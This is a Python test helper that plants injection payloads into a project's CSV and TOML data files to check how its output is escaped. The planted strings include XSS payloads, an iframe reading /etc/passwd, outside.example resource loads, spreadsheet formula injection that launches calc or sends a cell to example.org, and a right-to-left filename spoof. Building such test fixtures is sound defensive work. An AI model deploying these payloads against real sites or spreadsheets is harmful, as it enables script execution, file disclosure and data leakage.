"""Texts that try to be more than texts, planted into a copy of the invented place."""

import csv
import tomllib
from pathlib import Path

PAYLOADS = {
    "script": "</title></script><script>alert(1)</script>",
    "image": "\"'><img src=x onerror=alert(1)>",
    "frame": "<iframe src=file:///etc/passwd></iframe><meta http-equiv=refresh content='0;url=http://outside.example'>",
    "style": "<p style=\"background:url(http://outside.example/a)\"><style>@import 'http://outside.example/b'</style>",
    "typst": '#read("canary.txt")#include "canary.typ"; \\"); $x',
    "command": "=cmd|' /C calc'!A0",
    "address": "](javascript:alert(1))",
    "direction": "\u202egnp.exe\u2066\u200b",
}
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"more")', "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)",
)  # fmt: skip
"""What a spreadsheet may run: each sign in both widths, and behind white space."""

TEXTS = {
    "regions.csv": ("name_en", "name_zh"),
    "sources.csv": ("publisher", "title", "note"),
    "series.csv": (
        "name_en", "name_zh", "counted_en", "counted_zh", "definition_en", "definition_zh", "scope_trap_en",
        "scope_trap_zh",
    ),
    "figures/2020.csv": ("phrase", "note"),
    "figures/2021.csv": ("phrase", "note"),
    "claims.csv": ("statement_en", "statement_zh", "phrase", "test_en", "test_zh"),
    "policies.csv": ("name_en", "name_zh", "detail_en", "detail_zh", "phrase"),
}  # fmt: skip


def plant(data: Path, payload: str) -> Path:
    """Begin every text of a data folder with ``payload``, and let one publication have it as its address."""
    for table, columns in TEXTS.items():
        path = data / table
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        for row in rows:
            row |= {column: payload + row[column] for column in columns if row[column]}
            if row.get("source") == "T02" and "url" in row:
                row["url"] = f"javascript:{payload}"
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, rows[0], lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    path = data / "indicators.toml"
    tables = tomllib.loads(path.read_text(encoding="utf-8"))
    for table in tables.values():
        for key in table:
            if key.rpartition("_")[0] in ("name", "unit", "definition", "caveat", "compare"):
                table[key] = payload + table[key]
    text = "\n".join(
        f"[{name}]\n" + "".join(f"{key} = {_toml(value)}\n" for key, value in table.items())
        for name, table in tables.items()
    )
    path.write_text(text, encoding="utf-8")
    return data


def _toml(value: object) -> str:
    if not isinstance(value, str):
        return str(value)
    plain = value.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + "".join(each if each.isprintable() else f"\\U{ord(each):08x}" for each in plain) + '"'
